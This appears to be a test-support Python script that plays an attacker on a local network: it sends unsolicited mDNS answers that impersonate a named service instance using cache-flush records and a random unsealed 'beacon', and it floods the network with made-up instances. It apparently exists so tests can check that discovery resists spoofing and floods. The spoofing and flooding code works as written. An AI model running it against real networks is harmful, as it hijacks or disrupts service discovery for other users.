"""A stranger on the LAN: ``python -m tests.support.attacker_process ADDRESS INSTANCE SECONDS``.

Answers in the name of INSTANCE with an address and a beacon of its own, which displaces the true
records in every cache (RFC 6762 10.2, cache-flush), and floods with instances that nobody has.
"""

from __future__ import annotations

import os
import socket
import sys
import time

from zeroconf import ServiceInfo, Zeroconf, current_time_millis
from zeroconf._protocol.outgoing import DNSOutgoing

TYPE = "_nodeagent._tcp.local."
RESPONSE = 0x8400  # QR and AA, RFC 6762 18


def records(address: str, instance: str) -> ServiceInfo:
    """What a node would say, with a beacon that no fleet sealed."""
    return ServiceInfo(
        TYPE, f"{instance}.{TYPE}", port=6444, addresses=[socket.inet_aton(address)],
        server=f"{instance}.local.", properties={"b0": os.urandom(100).hex()},
    )  # fmt: skip


def say(zeroconf: Zeroconf, *infos: ServiceInfo) -> None:
    """One packet, unasked."""
    out = DNSOutgoing(RESPONSE)
    now = current_time_millis()
    for info in infos:
        out.add_answer_at_time(info.dns_pointer(), now)
        out.add_answer_at_time(info.dns_service(), now)
        out.add_answer_at_time(info.dns_text(), now)
        for record in info.dns_addresses():
            out.add_answer_at_time(record, now)
    zeroconf.send(out)


def main(address: str, instance: str, seconds: str) -> None:
    """Spoof all the time, flood as fast as it goes."""
    zeroconf = Zeroconf(interfaces=[address])
    end = time.monotonic() + float(seconds)
    alphabet = "abcdefghijklmnopqrstuvwxyz234567"
    sys.stdout.write("at it\n")
    sys.stdout.flush()
    while time.monotonic() < end:
        say(zeroconf, records(address, instance))
        for _ in range(10):
            name = "n-" + "".join(alphabet[byte % 32] for byte in os.urandom(16))
            say(zeroconf, records(address, name))
        time.sleep(0.02)
    zeroconf.close()


if __name__ == "__main__":
    main(*sys.argv[1:])
